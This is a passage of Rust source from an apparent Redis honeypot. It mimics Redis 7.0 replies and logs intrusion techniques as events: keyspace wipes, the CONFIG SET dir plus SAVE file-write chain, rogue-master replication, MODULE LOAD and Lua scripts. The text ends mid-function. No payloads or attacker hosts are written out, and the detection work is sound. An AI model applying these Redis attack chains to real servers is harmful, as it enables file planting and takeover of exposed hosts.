//! The command table and each command's reply.
//!
//! Checks run in Redis's order (`processCommand`): the cross-protocol guard
//! (`POST`, `Host:`), command lookup (unknown command / unknown
//! subcommand), arity, authentication, then the command itself. Replies are
//! those of the configured version; the texts are checked against Redis
//! 7.0.15 by `tests/redis_conformance.rs`.

use std::sync::atomic::Ordering;

use mirage_core::{AuthResult, BytesText, EventKind, PayloadData};
use mirage_proto::resp::{ReplyWriter, string2ll};
use serde_json::{Map, Value, json};

use super::attacks;
use super::info::{self, InfoState};
use super::keyspace::{DATABASES, now_ms};
use super::version::cstr;
use super::{Conn, Flow, PAYLOAD_INLINE, Server, lock};

const SYNTAX: &[u8] = b"ERR syntax error";
const NOT_INT: &[u8] = b"ERR value is not an integer or out of range";

/// Arity of the commands this honeypot knows (Redis's convention: N exact,
/// -N at least N), for the configured version.
fn arity(server: &Server, name: &str) -> Option<i32> {
    let v = &server.version;
    let seven = v.is_seven();
    Some(match name {
        "ping" | "info" | "command" | "hello" => -1,
        "quit" => {
            if seven {
                -1
            } else {
                1
            }
        }
        "echo" | "select" | "get" | "keys" | "type" | "ttl" | "incr" | "decr" => 2,
        "set" => -3,
        "del" | "exists" | "scan" | "config" | "client" | "module" | "script" => -2,
        "auth" => {
            if v.has_acl() {
                -2
            } else {
                2
            }
        }
        "expire" => {
            if seven {
                -3
            } else {
                3
            }
        }
        "dbsize" | "save" | "lastsave" => 1,
        "bgsave" | "flushall" | "flushdb" => -1,
        "slaveof" | "replicaof" => 3,
        "eval" | "evalsha" => -3,
        _ => return None,
    })
}

/// Subcommands this honeypot answers, with 7.0 arities.
fn sub_arity(container: &str, sub: &str) -> Option<i32> {
    Some(match (container, sub) {
        ("config", "get") => -3,
        ("config", "set") => -4,
        ("config", "resetstat") | ("config", "rewrite") => 2,
        ("client", "setname") => 3,
        ("client", "getname") | ("client", "id") | ("client", "info") => 2,
        ("client", "list") => -2,
        ("command", "count") => 2,
        ("command", "docs") | ("command", "info") => -2,
        ("module", "load") => -3,
        ("module", "list") => 2,
        ("script", "load") => 3,
        _ => return None,
    })
}

fn arity_ok(arity: i32, argc: usize) -> bool {
    let argc = argc as i64;
    let a = i64::from(arity);
    if a > 0 { argc == a } else { argc >= -a }
}

fn lower(a: &[u8]) -> String {
    String::from_utf8_lossy(a).to_ascii_lowercase()
}

/// Run one request, writing its reply into `out`.
pub fn execute(server: &Server, conn: &mut Conn, args: &[Vec<u8>], out: &mut ReplyWriter) -> Flow {
    let Some(first) = args.first() else {
        return Flow::Continue;
    };
    let name = lower(first);
    // securityWarningCommand: a browser or SSRF speaking HTTP to Redis.
    if name == "post" || name == "host:" {
        return Flow::Drop;
    }
    server.commands.fetch_add(1, Ordering::Relaxed);
    let v = &server.version;
    let known = arity(server, &name).filter(|_| {
        (name != "hello" || v.has_acl()) && (name != "replicaof" || v.at_least(5, 0, 0))
    });
    let Some(ar) = known else {
        out.error(&v.unknown_command(args));
        return Flow::Continue;
    };
    let container = matches!(
        name.as_str(),
        "config" | "client" | "command" | "module" | "script"
    );
    let mut fullname = name.clone();
    if v.is_seven() && container && args.len() >= 2 {
        let sub = lower(&args[1]);
        match sub_arity(&name, &sub) {
            Some(sa) => {
                fullname = format!("{name}|{sub}");
                if !arity_ok(sa, args.len()) {
                    out.error(&v.arity_error(&fullname));
                    return Flow::Continue;
                }
            }
            None => {
                out.error(&v.unknown_subcommand(&name, &args[1]));
                return Flow::Continue;
            }
        }
    } else if !arity_ok(ar, args.len()) {
        out.error(&v.arity_error(&name));
        return Flow::Continue;
    }
    if !conn.authenticated && !matches!(name.as_str(), "auth" | "hello" | "quit") {
        out.error(b"NOAUTH Authentication required.");
        return Flow::Continue;
    }
    *lock(&server.cmdstats).entry(fullname.clone()).or_insert(0) += 1;
    if let Some(c) = lock(&server.clients).get_mut(&conn.id) {
        c.cmd = fullname;
        c.last = std::time::Instant::now();
    }
    run(server, conn, &name, args, out)
}

fn parse_i64(a: &[u8]) -> Option<i64> {
    string2ll(a)
}

fn run(
    server: &Server,
    conn: &mut Conn,
    name: &str,
    args: &[Vec<u8>],
    out: &mut ReplyWriter,
) -> Flow {
    let v = &server.version;
    let ks = &server.keyspaces;
    let arg = |i: usize| args.get(i).map(Vec::as_slice).unwrap_or_default();
    match name {
        "ping" => match args.len() {
            1 => out.simple("PONG"),
            2 => out.bulk(arg(1)),
            _ => out.error(&v.arity_error("ping")),
        },
        "echo" => out.bulk(arg(1)),
        "quit" => {
            out.simple("OK");
            return Flow::Close;
        }
        "auth" => auth(server, conn, &args[1..], out),
        "hello" => hello(server, conn, args, out),
        "select" => match parse_i64(arg(1)).and_then(|n| i32::try_from(n).ok()) {
            None => out.error(if v.is_seven() {
                NOT_INT
            } else {
                b"ERR invalid DB index"
            }),
            Some(n) if n < 0 || n as usize >= DATABASES => {
                out.error(b"ERR DB index is out of range")
            }
            Some(n) => {
                conn.db = n as usize;
                if let Some(c) = lock(&server.clients).get_mut(&conn.id) {
                    c.db = conn.db;
                }
                out.simple("OK");
            }
        },
        "get" => match ks.lock(conn.scope).get(conn.db, arg(1)) {
            Some(e) => out.bulk(&e.value),
            None => out.null(),
        },
        "set" => set(server, conn, args, out),
        "del" => {
            let mut g = ks.lock(conn.scope);
            let n = args[1..].iter().filter(|k| g.del(conn.db, k)).count();
            out.integer(n as i64);
        }
        "exists" => {
            let mut g = ks.lock(conn.scope);
            let n = args[1..].iter().filter(|k| g.exists(conn.db, k)).count();
            out.integer(n as i64);
        }
        "type" => {
            let exists = ks.lock(conn.scope).exists(conn.db, arg(1));
            out.simple(if exists { "string" } else { "none" });
        }
        "ttl" => match ks.lock(conn.scope).expiry(conn.db, arg(1)) {
            None => out.integer(-2),
            Some(None) => out.integer(-1),
            Some(Some(at)) => {
                let ms = at.saturating_sub(now_ms());
                out.integer(((ms + 500) / 1000) as i64);
            }
        },
        "expire" => expire(server, conn, args, out),
        "incr" | "decr" => {
            let delta = if name == "incr" { 1 } else { -1 };
            let mut g = ks.lock(conn.scope);
            let cur = g.get(conn.db, arg(1));
            let base = match &cur {
                None => Some(0),
                Some(e) => parse_i64(&e.value),
            };
            match base {
                None => out.error(NOT_INT),
                Some(b) => match b.checked_add(delta) {
                    None => out.error(b"ERR increment or decrement would overflow"),
                    Some(n) => {
                        let ttl = cur.and_then(|e| e.expires_at);
                        g.set(conn.db, arg(1), n.to_string().into_bytes(), ttl);
                        out.integer(n);
                    }
                },
            }
        }
        "keys" => {
            let keys = ks.lock(conn.scope).keys(conn.db);
            let hits: Vec<&Vec<u8>> = keys
                .iter()
                .filter(|k| super::glob::matches(arg(1), k, false))
                .collect();
            out.bulks(&hits);
        }
        "scan" => scan(server, conn, args, out),
        "dbsize" => out.integer(ks.lock(conn.scope).dbsize(conn.db) as i64),
        "info" => {
            if !v.is_seven() && args.len() > 2 {
                out.error(SYNTAX);
            } else {
                let text = info_text(server, conn, &args[1..]);
                out.verbatim(text.as_bytes());
            }
        }
        "config" => config(server, conn, args, out),
        "save" | "bgsave" => {
            if name == "bgsave" && args.len() == 2 && lower(&args[1]) != "schedule" {
                out.error(SYNTAX);
                return Flow::Continue;
            }
            {
                let mut g = ks.lock(conn.scope);
                let st = g.state();
                st.last_save = now_ms() / 1000;
                st.dirty = 0;
            }
            server.saves.fetch_add(1, Ordering::Relaxed);
            if name == "save" {
                out.simple("OK");
            } else {
                out.simple("Background saving started");
            }
            config_write(server, conn, name);
        }
        "lastsave" => {
            let t = ks.lock(conn.scope).state().last_save;
            out.integer(if t == 0 { server.started_unix } else { t } as i64);
        }
        "flushall" | "flushdb" => {
            let ok = match args.get(1).map(|a| lower(a)) {
                None => true,
                Some(m) => {
                    args.len() == 2 && (m == "async" || (m == "sync" && v.at_least(6, 2, 0)))
                }
            };
            if !ok {
                out.error(SYNTAX);
                return Flow::Continue;
            }
            let keys = {
                let mut g = ks.lock(conn.scope);
                let stats = g.db_stats();
                let before: usize = if name == "flushdb" {
                    stats.get(conn.db).map_or(0, |s| s.0)
                } else {
                    stats.iter().map(|s| s.0).sum()
                };
                g.flush((name == "flushdb").then_some(conn.db));
                before
            };
            if args.len() == 2 && lower(&args[1]) == "async" {
                // Keys freed by a background flush show in INFO as
                // lazyfreed_objects.
                server.lazyfreed.fetch_add(keys as u64, Ordering::Relaxed);
            }
            out.simple("OK");
            let mut ev = Map::new();
            ev.insert("command".into(), json!(name));
            ev.insert("db".into(), json!(conn.db));
            ev.insert("keys_before".into(), json!(keys));
            attack(
                conn,
                "redis.flushall",
                format!("{} emptied the keyspace", name.to_uppercase()),
                ev,
                &["wiper"],
            );
        }
        "slaveof" | "replicaof" => replicaof(server, conn, args, out),
        "module" => module(server, conn, args, out),
        "client" => client(server, conn, args, out),
        "command" => command(server, args, out),
        "eval" | "evalsha" => eval(server, conn, name, args, out),
        "script" => {
            let sub = lower(arg(1));
            if v.is_seven() || sub == "load" && args.len() == 3 {
                let sha = attacks::sha1_hex(arg(2));
                let mut scripts = lock(&server.scripts);
                if scripts.len() < 1024 {
                    scripts.insert(sha.clone());
                }
                drop(scripts);
                out.bulk(sha.as_bytes());
                lua_attack(conn, "script load", arg(2));
            } else {
                out.error(&v.unknown_subcommand("script", arg(1)));
            }
        }
        _ => out.error(&v.unknown_command(args)),
    }
    Flow::Continue
}

fn attack(
    conn: &mut Conn,
    technique: &str,
    summary: String,
    evidence: Map<String, Value>,
    tags: &[&str],
) {
    conn.events.push((
        EventKind::Attack {
            technique: technique.into(),
            summary,
            evidence,
        },
        tags.iter().map(|t| (*t).to_string()).collect(),
    ));
}

fn auth(server: &Server, conn: &mut Conn, params: &[Vec<u8>], out: &mut ReplyWriter) {
    let v = &server.version;
    if params.len() > 2 {
        out.error(SYNTAX);
        return;
    }
    let pw = &server.cfg.password;
    let (user, pass) = match params {
        [p] => (None, p.as_slice()),
        [u, p] => (Some(u.as_slice()), p.as_slice()),
        _ => return,
    };
    let ok = if pw.is_empty() {
        if user.is_none() {
            out.error(v.auth_without_password().as_bytes());
            record_auth(conn, user, pass, AuthResult::Failure);
            return;
        }
        // ACL: the default user has `nopass`, any password passes.
        user == Some(b"default".as_slice())
    } else {
        user.is_none_or(|u| u == b"default") && pass == pw.as_bytes()
    };
    if ok {
        conn.authenticated = true;
        out.simple("OK");
    } else {
        if !v.has_acl() {
            conn.authenticated = pw.is_empty();
        }
        out.error(v.auth_wrong_password().as_bytes());
    }
    record_auth(
        conn,
        user,
        pass,
        if ok {
            AuthResult::Success
        } else {
            AuthResult::Failure
        },
    );
}

fn record_auth(conn: &mut Conn, user: Option<&[u8]>, pass: &[u8], result: AuthResult) {
    conn.events.push((
        EventKind::AuthAttempt {
            method: "password".into(),
            username: user.map(|u| BytesText::capped(u, super::ARG_CAP).0),
            password: Some(BytesText::capped(pass, super::ARG_CAP).0),
            key_fingerprint: None,
            result,
            details: serde_json::Map::new(),
        },
        Vec::new(),
    ));
}

fn hello(server: &Server, conn: &mut Conn, args: &[Vec<u8>], out: &mut ReplyWriter) {
    let mut proto = if conn.resp3 { 3 } else { 2 };
    let mut i = 1;
    if let Some(p) = args.get(1) {
        match parse_i64(p) {
            None => {
                out.error(b"ERR Protocol version is not an integer or out of range");
                return;
            }
            Some(n) if !(2..=3).contains(&n) => {
                out.error(b"NOPROTO unsupported protocol version");
                return;
            }
            Some(n) => proto = n,
        }
        i = 2;
    }
    let mut setname = None;
    while i < args.len() {
        let opt = lower(&args[i]);
        let more = args.len() - i - 1;
        if opt == "auth" && more >= 2 {
            let (u, p) = (args[i + 1].clone(), args[i + 2].clone());
            let mut scratch = ReplyWriter::new(conn.resp3);
            auth(server, conn, &[u, p], &mut scratch);
            if scratch.as_bytes().first() == Some(&b'-') {
                out.raw(scratch.as_bytes());
                return;
            }
            i += 3;
        } else if opt == "setname" && more >= 1 {
            setname = Some(args[i + 1].clone());
            i += 2;
        } else {
            let mut e = b"ERR Syntax error in HELLO option '".to_vec();
            e.extend_from_slice(cstr(&args[i]));
            e.push(b'\'');
            out.error(&e);
            return;
        }
    }
    if !conn.authenticated {
        out.error(b"NOAUTH HELLO must be called with the client already authenticated, otherwise the HELLO <proto> AUTH <user> <pass> option can be used to authenticate the client and select the RESP protocol version at the same time");
        return;
    }
    if let Some(n) = setname
        && !set_name(server, conn, &n, out)
    {
        return;
    }
    conn.resp3 = proto == 3;
    out.set_resp3(conn.resp3);
    if let Some(c) = lock(&server.clients).get_mut(&conn.id) {
        c.resp = proto as u8;
    }
    let master = server.keyspaces.lock(conn.scope).state().master.is_some();
    out.map(7);
    out.bulk(b"server");
    out.bulk(b"redis");
    out.bulk(b"version");
    out.bulk(server.version.text.as_bytes());
    out.bulk(b"proto");
    out.integer(proto);
    out.bulk(b"id");
    out.integer(conn.id as i64);
    out.bulk(b"mode");
    out.bulk(b"standalone");
    out.bulk(b"role");
    out.bulk(if master { b"replica" } else { b"master" });
    out.bulk(b"modules");
    out.array(0);
}

fn set(server: &Server, conn: &mut Conn, args: &[Vec<u8>], out: &mut ReplyWriter) {
    let v = &server.version;
    let (mut nx, mut xx, mut get, mut keepttl) = (false, false, false, false);
    let mut expire: Option<(&str, &[u8])> = None;
    let mut i = 3;
    while i < args.len() {
        let opt = lower(&args[i]);
        let next = args.get(i + 1);
        match opt.as_str() {
            "nx" if !xx => nx = true,
            "xx" if !nx => xx = true,
            "get" if v.at_least(6, 2, 0) => get = true,
            "keepttl" if v.at_least(6, 0, 0) && expire.is_none() => keepttl = true,
            "ex" | "px" | "exat" | "pxat"
                if expire.is_none()
                    && !keepttl
                    && next.is_some()
                    && (v.at_least(6, 2, 0) || opt == "ex" || opt == "px") =>
            {
                let kind = if opt == "ex" {
                    "ex"
                } else if opt == "px" {
                    "px"
                } else if opt == "exat" {
                    "exat"
                } else {
                    "pxat"
                };
                expire = next.map(|n| (kind, n.as_slice()));
                i += 1;
            }
            _ => {
                out.error(SYNTAX);
                return;
            }
        }
        i += 1;
    }
    let mut expires_at = None;
    if let Some((kind, raw)) = expire {
        let Some(n) = parse_i64(raw) else {
            out.error(NOT_INT);
            return;
        };
        let bad = || {
            let mut e = b"ERR invalid expire time in 'set' command".to_vec();
            if !v.is_seven() {
                e = b"ERR invalid expire time in set".to_vec();
            }
            e
        };
        if n <= 0 {
            out.error(&bad());
            return;
        }
        let ms = match kind {
            "ex" => n
                .checked_mul(1000)
                .and_then(|x| x.checked_add(now_ms() as i64)),
            "px" => n.checked_add(now_ms() as i64),
            "exat" => n.checked_mul(1000),
            _ => Some(n),
        };
        match ms {
            Some(ms) if ms > 0 => expires_at = Some(ms as u64),
            _ => {
                out.error(&bad());
                return;
            }
        }
    }
    let key = &args[1];
    let value = &args[2];
    let mut g = server.keyspaces.lock(conn.scope);
    let old = g.get(conn.db, key);
    if (nx && old.is_some()) || (xx && old.is_none()) {
        if get {
            match old {
                Some(e) => out.bulk(&e.value),
                None => out.null(),
            }
        } else {
            out.null();
        }
        return;
    }
    if keepttl {
        expires_at = old.as_ref().and_then(|e| e.expires_at);
    }
    g.set(conn.db, key, value.clone(), expires_at);
    drop(g);
    conn.tracker.record_write(key, value);
    if get {
        match old {
            Some(e) => out.bulk(&e.value),
            None => out.null(),
        }
    } else {
        out.simple("OK");
    }
}

fn expire(server: &Server, conn: &mut Conn, args: &[Vec<u8>], out: &mut ReplyWriter) {
    let Some(secs) = parse_i64(&args[2]) else {
        out.error(NOT_INT);
        return;
    };
    let (mut nx, mut xx, mut gt, mut lt) = (false, false, false, false);
    for a in &args[3..] {
        match lower(a).as_str() {
            "nx" => nx = true,
            "xx" => xx = true,
            "gt" => gt = true,
            "lt" => lt = true,
            _ => {
                let mut e = b"ERR Unsupported option ".to_vec();
                e.extend_from_slice(cstr(a));
                out.error(&e);
                return;
            }
        }
    }
    if nx && (xx || gt || lt) {
        out.error(b"ERR NX and XX, GT or LT options at the same time are not compatible");
        return;
    }
    if gt && lt {
        out.error(b"ERR GT and LT options at the same time are not compatible");
        return;
    }
    let Some(at) = secs
        .checked_mul(1000)
        .and_then(|ms| ms.checked_add(now_ms() as i64))
    else {
        out.error(b"ERR invalid expire time in 'expire' command");
        return;
    };
    let mut g = server.keyspaces.lock(conn.scope);
    let Some(cur) = g.expiry(conn.db, &args[1]) else {
        out.integer(0);
        return;
    };
    let skip = (nx && cur.is_some())
        || (xx && cur.is_none())
        || (gt && cur.is_none_or(|c| at <= c as i64))
        || (lt && cur.is_some_and(|c| at >= c as i64));
    if skip {
        out.integer(0);
        return;
    }
    if at <= now_ms() as i64 {
        g.del(conn.db, &args[1]);
    } else {
        g.set_expiry(conn.db, &args[1], Some(at as u64));
    }
    out.integer(1);
}

fn scan(server: &Server, conn: &mut Conn, args: &[Vec<u8>], out: &mut ReplyWriter) {
    let cursor = std::str::from_utf8(&args[1])
        .ok()
        .filter(|s| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()))
        .and_then(|s| s.parse::<u64>().ok());
    let Some(cursor) = cursor else {
        out.error(b"ERR invalid cursor");
        return;
    };
    let mut count = 10usize;
    let mut pattern: Option<&[u8]> = None;
    let mut i = 2;
    while i < args.len() {
        let more = args.len() - i - 1;
        match lower(&args[i]).as_str() {
            "count" if more >= 1 => {
                match parse_i64(&args[i + 1]) {
                    None => {
                        out.error(NOT_INT);
                        return;
                    }
                    Some(n) if n < 1 => {
                        out.error(SYNTAX);
                        return;
                    }
                    Some(n) => count = usize::try_from(n).unwrap_or(usize::MAX),
                }
                i += 2;
            }
            "match" if more >= 1 => {
                pattern = Some(&args[i + 1]);
                i += 2;
            }
            "type" if more >= 1 => {
                i += 2;
            }
            _ => {
                out.error(SYNTAX);
                return;
            }
        }
    }
    let keys = server.keyspaces.lock(conn.scope).keys(conn.db);
    let start = usize::try_from(cursor)
        .unwrap_or(usize::MAX)
        .min(keys.len());
    let end = start.saturating_add(count).min(keys.len());
    let next = if end >= keys.len() { 0 } else { end };
    let page: Vec<&Vec<u8>> = keys[start..end]
        .iter()
        .filter(|k| pattern.is_none_or(|p| super::glob::matches(p, k, false)))
        .collect();
    out.array(2);
    out.bulk(next.to_string().as_bytes());
    out.bulks(&page);
}

/// Current value of a CONFIG parameter for this client.
fn config_value(server: &Server, conn: &Conn, name: &str) -> Option<String> {
    if let Some(v) = server
        .keyspaces
        .lock(conn.scope)
        .state()
        .config
        .get(name)
        .cloned()
    {
        return Some(v);
    }
    let cfg = &server.cfg;
    Some(match name {
        "dir" => cfg.dir.clone(),
        "save" => cfg.save.clone(),
        "port" => conn.local.port().to_string(),
        "requirepass" => cfg.password.clone(),
        _ => server.catalog.config.get(name)?.value.clone(),
    })
}

fn config(server: &Server, conn: &mut Conn, args: &[Vec<u8>], out: &mut ReplyWriter) {
    let v = &server.version;
    let sub = lower(&args[1]);
    match sub.as_str() {
        "get" if v.is_seven() || args.len() == 3 => {
            let mut picked: Vec<String> = Vec::new();
            for pat in &args[2..] {
                let p = lower(pat);
                if !p.contains(['[', '*', '?']) {
                    if server.catalog.config.contains_key(&p) && !picked.contains(&p) {
                        picked.push(p);
                    }
                    continue;
                }
                for name in server.catalog.config.keys() {
                    if !picked.contains(name) && super::glob::matches(pat, name.as_bytes(), true) {
                        picked.push(name.clone());
                    }
                }
            }
            out.map(picked.len());
            for n in picked {
                out.bulk(n.as_bytes());
                out.bulk(
                    config_value(server, conn, &n)
                        .unwrap_or_default()
                        .as_bytes(),
                );
            }
        }
        "set" if v.is_seven() || args.len() == 4 => {
            if args.len() % 2 == 1 {
                out.error(SYNTAX);
                return;
            }
            let pairs: Vec<(String, &Vec<u8>)> = args[2..]
                .chunks_exact(2)
                .map(|c| (lower(&c[0]), &c[1]))
                .collect();
            for (n, val) in &pairs {
                let Some(param) = server.catalog.config.get(n) else {
                    let mut e = if v.is_seven() {
                        b"ERR Unknown option or number of arguments for CONFIG SET - '".to_vec()
                    } else {
                        b"ERR Unsupported CONFIG parameter: ".to_vec()
                    };
                    let raw = &args[2 + 2 * pairs.iter().position(|p| &p.0 == n).unwrap_or(0)];
                    e.extend_from_slice(cstr(raw));
                    if v.is_seven() {
                        e.push(b'\'');
                    }
                    out.error(&e);
                    return;
                };
                let blocked = if param.immutable {
                    Some("can't set immutable config")
                } else if param.protected && v.is_seven() && !server.cfg.protected_configs_allowed {
                    Some("can't set protected config")
                } else {
                    None
                };
                if let Some(why) = blocked {
                    out.error(
                        format!(
                            "ERR CONFIG SET failed (possibly related to argument '{n}') - {why}"
                        )
                        .as_bytes(),
                    );
                    track_config(conn, n, val, false);
                    return;
                }
                if (param.value == "yes" || param.value == "no")
                    && !matches!(lower(val).as_str(), "yes" | "no")
                {
                    out.error(
                        format!("ERR CONFIG SET failed (possibly related to argument '{n}') - argument must be 'yes' or 'no'")
                            .as_bytes(),
                    );
                    return;
                }
            }
            // Real Redis chdir()s and reports getcwd(): normalise the same way.
            let cwd = config_value(server, conn, "dir").unwrap_or_default();
            let mut g = server.keyspaces.lock(conn.scope);
            let st = g.state();
            for (n, val) in &pairs {
                if st.config.len() < 256 {
                    let val = &val[..val.len().min(4096)];
                    let text = if n == "dir" {
                        normalize_dir(&cwd, &String::from_utf8_lossy(val))
                    } else {
                        String::from_utf8_lossy(val).into_owned()
                    };
                    st.config.insert(n.clone(), text);
                }
            }
            drop(g);
            for (n, val) in &pairs {
                track_config(conn, n, val, true);
            }
            out.simple("OK");
        }
        "resetstat" | "rewrite" if args.len() == 2 => out.simple("OK"),
        _ => out.error(&v.unknown_subcommand("config", &args[1])),
    }
}

fn track_config(conn: &mut Conn, name: &str, val: &[u8], accepted: bool) {
    let val = val[..val.len().min(4096)].to_vec();
    match name {
        "dir" => conn.tracker.dir = Some(val),
        "dbfilename" => conn.tracker.dbfilename = Some(val),
        _ => return,
    }
    let _ = accepted;
}

/// `dir` as `getcwd()` would report it after `chdir(val)` from `cwd`:
/// absolute, no `.`/`..` components, no repeated or trailing slashes.
fn normalize_dir(cwd: &str, val: &str) -> String {
    let joined = if val.starts_with('/') {
        val.to_owned()
    } else {
        format!("{cwd}/{val}")
    };
    let mut parts: Vec<&str> = Vec::new();
    for part in joined.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            p => parts.push(p),
        }
    }
    format!("/{}", parts.join("/"))
}

/// SAVE/BGSAVE while the dump file points somewhere other than the
/// configured default: the file-write chain. CONFIG is server-wide (per
/// keyspace scope), so the chain is caught even when CONFIG SET and SAVE
/// come over different connections, as scripted attacks do.
fn config_write(server: &Server, conn: &mut Conn, trigger: &str) {
    let dir = config_value(server, conn, "dir").unwrap_or_default();
    let file = config_value(server, conn, "dbfilename").unwrap_or_default();
    let default_file = server
        .catalog
        .config
        .get("dbfilename")
        .map(|p| p.value.as_str())
        .unwrap_or("dump.rdb");
    if !conn.tracker.redirected() && dir == server.cfg.dir && file == default_file {
        return;
    }
    let (dir, file) = (dir.into_bytes(), file.into_bytes());
    let mut values = conn.tracker.written.clone();
    if values.is_empty() {
        values = server
            .keyspaces
            .lock(conn.scope)
            .all_values(attacks::MAX_EVIDENCE_VALUES);
    }
    let (evidence, class) = attacks::config_write_evidence(&dir, &file, &values, trigger);
    let path = evidence
        .get("path")
        .and_then(Value::as_str)
        .unwrap_or_default()
        .to_string();
    attack(
        conn,
        "redis.config_write",
        format!(
            "{} wrote the keyspace to {path} ({class})",
            trigger.to_uppercase()
        ),
        evidence,
        &["config_write", class],
    );
    for (_, v) in values.iter().take(attacks::MAX_EVIDENCE_VALUES) {
        conn.events.push((
            EventKind::Payload {
                data: PayloadData::new(v, PAYLOAD_INLINE),
                stored: None,
            },
            vec!["config_write".into(), class.into()],
        ));
    }
}

fn replicaof(server: &Server, conn: &mut Conn, args: &[Vec<u8>], out: &mut ReplyWriter) {
    let host = &args[1];
    let port = &args[2];
    if lower(host) == "no" && lower(port) == "one" {
        server.keyspaces.lock(conn.scope).state().master = None;
        out.simple("OK");
        return;
    }
    let Some(p) = parse_i64(port) else {
        out.error(NOT_INT);
        return;
    };
    let host_s = String::from_utf8_lossy(cstr(host)).into_owned();
    let port16 = u16::try_from(p).unwrap_or(0);
    let mut g = server.keyspaces.lock(conn.scope);
    let st = g.state();
    let same = st.master.as_ref() == Some(&(host_s.clone(), port16));
    st.master = Some((host_s.clone(), port16));
    drop(g);
    if same && server.version.is_seven() {
        out.simple("OK Already connected to specified master");
    } else {
        out.simple("OK");
    }
    let mut ev = Map::new();
    ev.insert("host".into(), json!(host_s));
    ev.insert("port".into(), json!(p));
    ev.insert("master".into(), json!(format!("{host_s}:{p}")));
    ev.insert("command".into(), json!(lower(&args[0])));
    attack(
        conn,
        "redis.rogue_master",
        format!("replication to {host_s}:{p} requested (not connected)"),
        ev,
        &["rogue_master"],
    );
}

fn module(server: &Server, conn: &mut Conn, args: &[Vec<u8>], out: &mut ReplyWriter) {
    let v = &server.version;
    let sub = lower(&args[1]);
    if sub == "load" && args.len() >= 3 {
        let mut ev = Map::new();
        ev.insert(
            "path".into(),
            json!(mirage_core::escape_bytes(
                &args[2][..args[2].len().min(4096)]
            )),
        );
        let extra: Vec<String> = args[3..]
            .iter()
            .take(16)
            .map(|a| mirage_core::escape_bytes(&a[..a.len().min(1024)]))
            .collect();
        ev.insert("args".into(), json!(extra));
        attack(
            conn,
            "redis.module_load",
            format!(
                "MODULE LOAD {}",
                mirage_core::escape_bytes(&args[2][..args[2].len().min(256)])
            ),
            ev,
            &["module_load"],
        );
    }
    if v.is_seven() && matches!(sub.as_str(), "load" | "loadex" | "unload") {
        // enable-module-command defaults to "no" in 7.0, and guards the
        // subcommands that load code (not LIST).
        out.error(b"ERR MODULE command not allowed. If the enable-module-command option is set to \"local\", you can run it from a local connection, otherwise you need to set this option in the configuration file, and then restart the server.");
        return;
    }
    match sub.as_str() {
        "load" if args.len() >= 3 => {
            out.error(b"ERR Error loading the extension. Please check the server logs.")
        }
        "list" if args.len() == 2 => out.array(0),
        _ => out.error(&v.unknown_subcommand("module", &args[1])),
    }
}

/// CLIENT SETNAME's check; false (with the error written) when refused.
fn set_name(server: &Server, conn: &mut Conn, name: &[u8], out: &mut ReplyWriter) -> bool {
    if name.iter().any(|&b| !(b'!'..=b'~').contains(&b)) {
        out.error(b"ERR Client names cannot contain spaces, newlines or special characters.");
        return false;
    }
    if let Some(c) = lock(&server.clients).get_mut(&conn.id) {
        c.name = name[..name.len().min(256)].to_vec();
    }
    true
}

fn client_line(server: &Server, c: &super::ClientInfo, me: &Conn) -> String {
    let now = std::time::Instant::now();
    let age = now.duration_since(c.created).as_secs();
    let idle = now.duration_since(c.last).as_secs();
    let name = String::from_utf8_lossy(&c.name);
    let fd = 8 + c.id.saturating_sub(3);
    let is_me = c.id == me.id;
    let qbuf = if is_me { me.qbuf } else { 0 };
    let qfree = if is_me {
        20474usize.saturating_sub(qbuf)
    } else {
        0
    };
    let v = &server.version;
    if v.is_seven() {
        format!(
            "id={} addr={} laddr={} fd={fd} name={name} age={age} idle={idle} flags=N db={} sub=0 psub=0 ssub=0 multi=-1 qbuf={qbuf} qbuf-free={qfree} argv-mem={} multi-mem=0 rbs=16384 rbp=16384 obl=0 oll=0 omem=0 tot-mem={} events=r cmd={} user=default redir=-1 resp={}\n",
            c.id,
            c.addr,
            c.laddr,
            c.db,
            if is_me { 10 } else { 0 },
            if is_me { 37658 } else { 22298 },
            c.cmd,
            c.resp
        )
    } else if v.has_acl() {
        format!(
            "id={} addr={} fd={fd} name={name} age={age} idle={idle} flags=N db={} sub=0 psub=0 multi=-1 qbuf={qbuf} qbuf-free={qfree} argv-mem={} obl=0 oll=0 omem=0 tot-mem={} events=r cmd={} user=default\n",
            c.id,
            c.addr,
            c.db,
            if is_me { 10 } else { 0 },
            if is_me { 61466 } else { 20504 },
            c.cmd
        )
    } else {
        format!(
            "id={} addr={} fd={fd} name={name} age={age} idle={idle} flags=N db={} sub=0 psub=0 multi=-1 qbuf={qbuf} qbuf-free={qfree} obl=0 oll=0 omem=0 events=r cmd={}\n",
            c.id, c.addr, c.db, c.cmd
        )
    }
}

fn client(server: &Server, conn: &mut Conn, args: &[Vec<u8>], out: &mut ReplyWriter) {
    let v = &server.version;
    let sub = lower(&args[1]);
    match sub.as_str() {
        "setname" if args.len() == 3 => {
            if set_name(server, conn, &args[2], out) {
                out.simple("OK");
            }
        }
        "getname" if args.len() == 2 => {
            let name = lock(&server.clients)
                .get(&conn.id)
                .map(|c| c.name.clone())
                .unwrap_or_default();
            if name.is_empty() {
                out.null();
            } else {
                out.bulk(&name);
            }
        }
        "id" if args.len() == 2 => out.integer(conn.id as i64),
        "info" if args.len() == 2 && v.at_least(6, 2, 0) => {
            let me = lock(&server.clients).get(&conn.id).cloned();
            let line = me
                .map(|c| client_line(server, &c, conn))
                .unwrap_or_default();
            out.verbatim(line.as_bytes());
        }
        "list" => {
            let clients: Vec<super::ClientInfo> = lock(&server.clients)
                .values()
                .filter(|c| c.scope == conn.scope)
                .cloned()
                .collect();
            let text: String = clients
                .iter()
                .map(|c| client_line(server, c, conn))
                .collect();
            out.verbatim(text.as_bytes());
        }
        _ => out.error(&v.unknown_subcommand("client", &args[1])),
    }
}

fn command(server: &Server, args: &[Vec<u8>], out: &mut ReplyWriter) {
    let v = &server.version;
    let cat = &server.catalog;
    let Some(sub) = args.get(1).map(|a| lower(a)) else {
        cat.command_all(out);
        return;
    };
    match sub.as_str() {
        "count" if args.len() == 2 => out.integer(cat.command_count() as i64),
        "info" if args.len() >= 3 || v.is_seven() => cat.command_info(&args[2..], out),
        "docs" if v.is_seven() => cat.command_docs(&args[2..], out),
        _ => out.error(&v.unknown_subcommand("command", &args[1])),
    }
}

fn lua_attack(conn: &mut Conn, how: &str, script: &[u8]) {
    let escapes = attacks::lua_escapes(script);
